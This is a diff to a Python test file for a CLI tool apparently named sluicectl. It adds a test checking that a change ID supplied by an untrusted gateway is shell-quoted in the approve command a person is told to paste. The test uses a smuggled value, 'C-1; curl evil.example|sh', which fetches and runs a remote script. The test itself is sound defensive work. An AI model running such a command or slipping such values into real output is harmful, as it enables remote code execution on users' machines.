@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from collections.abc import Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass, field, replace
@@ -229,6 +230,17 @@ def test_text_of_the_gateway_cannot_rewrite_the_screen(scene: Scene) -> None:
     assert "\x1b" not in listed.output
     assert "[31mC-9" in listed.output
     assert "cannot be applied: malformed" in listed.output
+
+
+def test_an_id_that_the_gateway_chose_runs_nothing_where_its_command_is_pasted(scene: Scene) -> None:
+    """What a person is told to type next has one more word than its verbs, whatever the gateway calls a change."""
+    scene.liar.answer = answer("PENDING")
+    scene.liar.answer.change_id = "C-1; curl evil.example|sh"
+
+    told = scene.run(*PROPOSE).stdout
+
+    command = told.partition("`")[2].partition("`")[0]
+    assert shlex.split(command)[:4] == ["sluicectl", "change", "approve", "C-1; curl evil.example|sh"]
 
 
 def test_a_list_too_long_to_read_is_refused(scene: Scene) -> None:
